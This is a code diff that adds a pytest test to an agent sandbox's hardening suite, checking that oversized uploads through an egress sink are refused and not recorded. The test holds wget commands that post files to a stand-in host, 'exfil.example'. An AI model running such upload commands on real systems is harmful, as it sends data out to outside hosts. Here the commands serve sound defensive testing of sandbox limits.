@@ -118,3 +118,27 @@ def test_the_sink_keeps_a_bounded_share_of_a_body() -> None:
     assert stream.left == 20 * 1024 * 1024 - MAX_SINK_READ_BYTES  # the rest is never read
     small, size = _read_bounded(Counting(10), 10)
     assert (small, size) == (b"x" * 10, 10)
+
+
+@pytest.mark.docker
+@docker_only
+def test_an_oversized_body_through_the_sink_is_refused_and_not_recorded(tmp_path: Any) -> None:
+    from mosaic_gym.envs.mosaic_env import MosaicEnv
+    from tests.hardening.scenarios import action
+
+    env = MosaicEnv(scenario=str(write_scenario(tmp_path, SHELL_SCENARIO)), backend="docker",
+                    max_steps=6)
+    try:
+        env.reset(seed=0)
+        if env.sandbox is None or env.sandbox._pool.egress is None:  # type: ignore[attr-defined]
+            pytest.skip("no egress network on this machine")
+        obs, *_ = env.step(action("run_shell", command=(
+            "head -c 4000000 /dev/zero | tr '\\0' x > big; "
+            "wget -q -O - --post-file big http://exfil.example/up; echo rc=$?")))
+        assert "413" in obs and "rc=1" in obs, obs
+        world = env.episode.world
+        assert world.egress == [] and world.web.requests == []
+        env.step(action("run_shell", command="wget -q -O - --post-data hi http://exfil.example/"))
+        assert len(world.egress) == 1
+    finally:
+        env.close()
